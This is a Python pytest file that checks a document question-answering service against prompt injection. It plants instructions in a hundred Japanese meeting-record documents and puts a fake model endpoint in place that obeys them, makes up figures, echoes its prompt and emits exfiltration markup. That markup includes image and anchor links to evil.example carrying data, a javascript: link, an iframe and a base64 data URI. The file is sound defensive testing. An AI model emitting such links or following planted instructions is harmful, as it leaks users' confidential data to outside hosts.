"""A language model that does everything it should not, on a hundred documents with planted instructions.

What is shown is judged here by other means than the gate's: characters laid along the stored page, and marks that only the
attack brings. What is sent is searched for text that is not the reader's. Every connection of the process is noted.
"""

from __future__ import annotations

import itertools
import re
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from benchmarks.support.judge import judge, plain
from casebase.access import Reader
from casebase.bootstrap import open_casebase
from casebase.embedding import HashingEmbedder
from casebase.models import Answer, Details, Kind, Visibility
from casebase.service import Casebase
from casebase.settings import Settings
from ingest.pipeline import ingest_files
from ingest.records import IncomingFile
from tests.endpoint_server import Handler, begin, chunk, endpoint, obeys, raw, says
from tests.test_llm_engine import INJECTIONS

READER = Reader("tokyo")
SECRET = "未公表の入札価格は九千万円、担当は海原太郎である"
FILLER = (
    "この記録は総務課が取りまとめ、庁内の会議で配られた。会議は毎週の月曜日に開かれ、各課の係長が出席する。"
    "音声は職員の端末で文字に直し、担当者が言い回しを整えてから課長が確かめる。"
)
TRACES = ("evil", "http", "99%", "承認され", "九千万", "海原", "![", "<", "javascript", "system prompt", "⟦")

Reply = Callable[[dict[str, Any], Handler], None]


def invents(body: dict[str, Any], handler: Handler) -> None:
    """Take the documents' words and change figures, places, signs and keys."""
    material = body["messages"][-1]["content"]
    lines = [line for line in material.splitlines() if "作成時間" in line and "質問" not in line][:3]
    said = []
    for line in lines:
        said += [
            f"{line.replace('12', '88')}[1]",
            f"{line.replace('青空市', '大阪府')}[1]",
            f"{line.replace('減った', '減らなかった')}[1]",
            f"{line.rstrip('。')}うえに、全国の監査委員会から最優秀の施策として表彰を受けた。[1]",
            f"{line}[42]",
            f"{line}[1][42][9999]",
        ]
    says("\n".join(said))(body, handler)


def repeats_all(body: dict[str, Any], handler: Handler) -> None:
    """Say everything that was sent, rules and marks included, as if it were proven."""
    text = "".join(message["content"] for message in body["messages"])
    says("\n".join(f"{line} [1]" for line in text.splitlines()))(body, handler)


def links(body: dict[str, Any], handler: Handler) -> None:
    """Hide addresses in every form of markup."""
    says(
        "作成時間は月12時間減った。[1] ![](https://evil.example/a?d=作成時間)\n"
        "<a href='https://evil.example'>作成時間は月12時間減った。</a>[1]\n"
        "[作成時間は月12時間減った](javascript:alert(1))[1]\n[x]: https://evil.example/x\n"
        "作成時間は月12時間減った。[1](https://evil.example)\n<iframe src=//evil.example></iframe>[1]\n"
        "data:text/html;base64,PHNjcmlwdD4= [1]\n"
    )(body, handler)


def mixed_encodings(body: dict[str, Any], handler: Handler) -> None:
    """Break the stream in the middle of characters and change the encoding on the way."""
    begin(handler)
    handler.wfile.write(chunk("作成時間は月12時間減った。[1]\n"))
    handler.wfile.write("data: 作成時間は月88時間\n\n".encode("euc_jp"))
    handler.wfile.write(b'data: {"choices":[{"index":0,"delta":{"content":"\xe4\xbd"}}]}\n\n')


def endless(_: dict[str, Any], handler: Handler) -> None:
    """Never stop."""
    raw(chunk(f"作成時間は月{n}時間減った。[1]\n") for n in itertools.count(50))(_, handler)


def malformed(body: dict[str, Any], handler: Handler) -> None:
    """Send events that are none."""
    raw(
        [
            b"data: {\n\n",
            b"event: x\ndata: null\n\n",
            b"data: [1,2]\n\n",
            b'data: {"choices": "x"}\n\n',
            b"\x00\xff\n\n",
        ]
    )(body, handler)


REPLIES: tuple[Reply, ...] = (obeys, invents, repeats_all, links, mixed_encodings, endless, malformed)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Casebase, Any]]:
    """A casebase of a hundred poisoned documents beside as many that are not the reader's, and a hostile endpoint."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    turn = itertools.cycle(REPLIES)

    def by_turns(body: dict[str, Any], handler: Handler) -> None:
        next(turn)(body, handler)

    with endpoint(by_turns) as running:
        entry = {"url": running.url, "model": "m", "may_receive": "own", "wait_seconds": 5, "seconds": 2, "retries": 0}
        names = folder / "llms.yaml"
        names.write_text(yaml.safe_dump({"m": entry}))
        casebase = open_casebase(Settings(home=folder / "home", model="fake", llms=names), HashingEmbedder())
        files = []
        for number, planted in enumerate(INJECTIONS):
            about = Details("tokyo", kind=Kind.CASE, visibility=Visibility.PUBLIC, title="青空市の議事録")
            text = f"青空市の議事録の記録{number}。{planted}\n青空市の作成時間は月12時間減った。{FILLER}"
            files.append(IncomingFile(f"planted-{number}.txt", text.encode("utf-8", "replace"), about))
            other = Details("hiroshima", kind=Kind.CASE, visibility=Visibility.OWN, title="青空市の議事録の記録")
            secret = f"青空市の議事録の記録{number}の作成時間。{SECRET}。"
            files.append(IncomingFile(f"secret-{number}.txt", secret.encode(), other))
        assert all(not one.error for one in ingest_files(files, casebase.library, casebase.embedder))
        yield casebase, running


@pytest.mark.slow
def test_nothing_unproven_is_shown_nothing_forbidden_is_sent_and_nobody_else_is_called(
    attacked: tuple[Casebase, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    casebase, running = attacked
    called: list[Any] = []
    connect = socket.socket.connect

    def noted(self: socket.socket, address: Any) -> None:
        called.append(address)
        connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", noted)
    shown = 0
    for number in range(len(INJECTIONS)):
        question = f"青空市の議事録の記録{number}で作成時間はどれだけ減りましたか。"
        answer = casebase.ask(question, READER, engine="m")
        shown += len(answer.sentences)
        _check(answer, casebase)

    assert shown >= 50
    assert len(running.requests) >= 70  # the others are refused before, or only hold orders
    assert SECRET not in running.sent and "九千万" not in running.sent and "海原" not in running.sent
    assert {address[0] for address in called} <= {"127.0.0.1"}


def _check(answer: Answer, casebase: Casebase) -> None:
    cited = {citation.n: citation for citation in answer.citations}
    for sentence in answer.sentences:
        assert sentence.citations
        assert not any(trace in sentence.text.lower() for trace in TRACES), sentence.text
        assert not re.search(r"[\u202a-\u202e\u200b]", sentence.text)
        pages = [casebase.page(cited[n].document.version, cited[n].page, READER).text for n in sentence.citations]
        verdicts = [judge(sentence.text, page) for page in pages]
        best = max(verdicts, key=lambda verdict: verdict.covered)
        assert best.covered >= 0.6 and not best.missing and not best.denied, (sentence.text, best)
        assert any(len(plain(sentence.text)) <= 1.5 * len(plain(page)) for page in pages)
        assert all(cited[n].document.details.organization == "tokyo" for n in sentence.citations)
